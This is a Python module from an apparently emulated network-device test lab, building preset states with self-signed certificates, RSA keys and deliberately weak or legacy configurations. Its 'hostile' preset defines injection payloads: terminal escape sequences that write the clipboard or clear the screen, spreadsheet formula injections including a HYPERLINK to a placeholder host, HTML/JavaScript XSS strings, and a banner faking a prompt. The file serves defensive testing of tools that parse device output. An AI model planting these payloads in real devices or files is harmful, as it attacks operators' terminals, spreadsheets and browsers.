"""Starting states applied at the first boot (empty NVRAM); the device saves them as if saved.

``build(spec, persona)`` returns the preset's :class:`DeviceState` (keys and certificates made
here, real ones); ``temporary_identity`` is what HTTPS serves when no certificate can be used.
"""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

from cryptography.hazmat.primitives.asymmetric import rsa

from lab.device.model.personality import Personality
from lab.device.model.spec import DeviceSpec
from lab.device.model.state import DeviceState, RunningConfig, default_interfaces
from lab.device.pki.certs import Certificate, add_years, self_signed
from lab.device.pki.rsakeys import POOL, KeyPair, new_rsa_key, pem_private
from lab.device.pki.trustpoints import Trustpoint, tp_self_signed_name

LEGACY_START = datetime(2018, 4, 23, 21, 37, 27)


def _key(bits: int) -> rsa.RSAPrivateKey:
    return POOL.take(bits) if bits >= 1024 else new_rsa_key(bits)


def _cert(
    p: Personality,
    tp: Trustpoint,
    pair: KeyPair,
    rdns: list[list[tuple[str, str]]],
    *,
    start: datetime | None = None,
    end: datetime | None = None,
    hash_name: str | None = None,
) -> Certificate:
    now = datetime.now(UTC).replace(tzinfo=None, microsecond=0)
    if start is None:
        start = now - timedelta(days=120)
        if p.fixed_end is not None and p.fixed_end <= start:
            start = p.fixed_end - timedelta(days=400)
    if end is None:
        end = p.fixed_end if p.fixed_end is not None else add_years(start, 10)
    return self_signed(
        pair.key,
        rdns,
        not_before=start,
        not_after=end,
        hash_name=hash_name or tp.hash or p.sig_hash,
        alt_names=[tp.subject_alt_name] if tp.subject_alt_name else None,
        utf8=p.xe,
    )


def _tp_self_signed(
    state: DeviceState,
    serial: str,
    p: Personality,
    bits: int,
    *,
    start: datetime | None = None,
    end: datetime | None = None,
    hash_name: str | None = None,
) -> Trustpoint:
    name = tp_self_signed_name(serial)
    number = name.rsplit("-", 1)[1]
    tp = Trustpoint(
        name,
        enrollment="selfsigned",
        subject_name=f"cn=IOS-Self-Signed-Certificate-{number}",
        revocation_check="none",
        rsakeypair=(name, None, None),
        persistent=True,
        hash="sha256" if p.xe else None,
    )
    pair = _pair(state, name, bits)
    rdns = [[("cn", f"IOS-Self-Signed-Certificate-{number}")]]
    tp.certificate = _cert(p, tp, pair, rdns, start=start, end=end, hash_name=hash_name)
    state.config.trustpoints[name] = tp
    return tp


def _pair(state: DeviceState, label: str, bits: int) -> KeyPair:
    key = _key(bits)
    pair = KeyPair(label, key, created=datetime.now(UTC).replace(tzinfo=None, microsecond=0))
    state.keys[label] = pair
    return pair


def build(spec: DeviceSpec, p: Personality) -> DeviceState:
    """The preset's running state (configuration, keys, certificates)."""
    cfg = RunningConfig(
        hostname=spec.name,
        domain_name=spec.domain_name,
        interfaces=default_interfaces(spec.serial),
    )
    state = DeviceState(cfg)
    cfg.http_server = p.xe
    cfg.http_secure_server = p.xe
    preset = spec.preset
    if preset == "legacy-fn70489":
        cfg.http_server = cfg.http_secure_server = True
        legacy_end = datetime(2020, 1, 1)
        _tp_self_signed(
            state, spec.serial, p, 1024, start=LEGACY_START, end=legacy_end, hash_name="sha1"
        )
    elif preset == "unsaved":
        cfg.http_server = cfg.http_secure_server = True
    elif preset == "weak-key":
        cfg.http_server = cfg.http_secure_server = True
        _tp_self_signed(state, spec.serial, p, 512)
    elif preset == "healthy":
        _healthy(state, p)
    elif preset == "hostile":
        _hostile(state, p)
    elif preset == "two-selfsigned":
        cfg.http_server = cfg.http_secure_server = True
        _tp_self_signed(state, spec.serial, p, 1024)
        tp = Trustpoint(
            "LOCAL-SELFSIGNED", enrollment="selfsigned", rsakeypair=("LOCAL-SELFSIGNED", 1024, None)
        )
        pair = _pair(state, "LOCAL-SELFSIGNED", 1024)
        tp.certificate = _cert(p, tp, pair, [[("hostname", cfg.fqdn())]])
        cfg.trustpoints[tp.name] = tp
    state.ssh_enabled = bool(state.keys)
    return state


def _healthy(state: DeviceState, p: Personality) -> None:
    cfg = state.config
    name = "PSSC-SELFSIGNED"
    tp = Trustpoint(
        name,
        enrollment="selfsigned",
        subject_name=f"cn={cfg.fqdn()}",
        revocation_check="none",
        rsakeypair=(name, 2048, None),
        hash="sha256",
        # the device's name in the certificate, where the release has the command (issue 17)
        subject_alt_name=cfg.hostname if p.name != "ios12" else None,
    )
    pair = _pair(state, name, 2048)
    tp.certificate = _cert(p, tp, pair, [[("cn", cfg.fqdn())]])
    cfg.trustpoints[name] = tp
    cfg.http_server = cfg.http_secure_server = True
    cfg.http_secure_trustpoint = name


# What a hostile device names its trustpoints and puts in their subjects and its banner: escape
# sequences (OSC 52 writes the operator's clipboard, OSC 8 a link, CSI clears the screen, C1 CSI,
# a bidi override), spreadsheet formulas, HTML and Markdown, a fake prompt and a fake IOS error.
HOSTILE_OSC = "\x1b]52;c;cHNzYyBwd25lZA==\x07\x1b[2J\x9b31m"
HOSTILE_TRUSTPOINTS = (
    f"TP{HOSTILE_OSC}\u202e",
    '=HYPERLINK("http://x.invalid/?"&A2,"open")',
    "+SUM(1+1)*cmd!A0",
    "@SUM(1+9)*cmd!A0",
    "-2+3+cmd!A0",
)
HOSTILE_SUBJECT = (
    "cn=<img src=x onerror=alert(1)><b>bold</b>[link](javascript:alert(1))"
    "\x1b]8;;http://x.invalid/\x1b\\click\x1b]8;;\x1b\\,o=-2+3"
)
HOSTILE_BANNER = "\nR1#\n% Invalid input detected at '^' marker.\n\x1b]0;pwned\x07=1+1\nR1#"


def _hostile(state: DeviceState, p: Personality) -> None:
    """Self-signed trustpoints with hostile names and subject (the first one bound to HTTPS)
    and a banner that imitates a prompt and an IOS error."""
    cfg = state.config
    for i, name in enumerate(HOSTILE_TRUSTPOINTS):
        tp = Trustpoint(
            name,
            enrollment="selfsigned",
            subject_name=HOSTILE_SUBJECT,
            revocation_check="none",
            rsakeypair=(f"HOSTILE-{i}", 2048, None),
            hash="sha256",
        )
        pair = _pair(state, f"HOSTILE-{i}", 2048)
        tp.certificate = _cert(p, tp, pair, [[("cn", HOSTILE_SUBJECT[3:].split(",o=")[0])]])
        cfg.trustpoints[name] = tp
    cfg.http_server = cfg.http_secure_server = True
    cfg.http_secure_trustpoint = HOSTILE_TRUSTPOINTS[0]
    cfg.banner_motd = HOSTILE_BANNER


def temporary_identity(serial: str, p: Personality, now: datetime) -> tuple[bytes, bytes]:
    """What HTTPS serves when no persistent certificate can be used (made once per boot)."""
    number = tp_self_signed_name(serial).rsplit("-", 1)[1]
    key = _key(p.http_key_bits)
    start = now.replace(microsecond=0)
    cert = self_signed(
        key,
        [[("cn", f"IOS-Self-Signed-Certificate-{number}")]],
        not_before=start,
        not_after=start + timedelta(days=365),
        hash_name=p.sig_hash,
    )
    return cert.pem, pem_private(key)
